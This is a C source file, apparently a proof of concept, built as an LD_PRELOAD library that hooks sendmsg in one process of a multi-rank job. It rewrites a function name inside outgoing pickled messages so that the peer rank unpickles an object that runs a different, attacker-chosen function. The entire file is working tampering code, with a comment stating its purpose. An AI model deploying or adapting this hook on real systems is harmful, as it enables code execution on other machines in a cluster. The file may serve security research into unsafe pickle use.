/* A process on the way between two ranks, loaded into one of them (LD_PRELOAD): changes every pickle that leaves
 * it for another that loads as well and does something else. The rank's own objects stay as they are. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>

static const char kBefore[] = "harmless_function";
static const char kAfter[] = "evil_function____";

ssize_t sendmsg(int fd, const struct msghdr* message, int flags) {
  ssize_t (*real)(int, const struct msghdr*, int);
  *(void**)&real = dlsym(RTLD_NEXT, "sendmsg");
  char bytes[65536];
  size_t size = 0;
  for (size_t i = 0; i < message->msg_iovlen; ++i) {
    const struct iovec* part = &message->msg_iov[i];
    if (part->iov_len > sizeof bytes - size) return real(fd, message, flags);
    if (part->iov_len > 0) memcpy(bytes + size, part->iov_base, part->iov_len);
    size += part->iov_len;
  }
  char* found = memmem(bytes, size, kBefore, strlen(kBefore));
  if (found == NULL) return real(fd, message, flags);
  memcpy(found, kAfter, strlen(kAfter));
  struct iovec all = {bytes, size};
  struct msghdr changed = *message;
  changed.msg_iov = &all;
  changed.msg_iovlen = 1;
  return real(fd, &changed, flags);
}
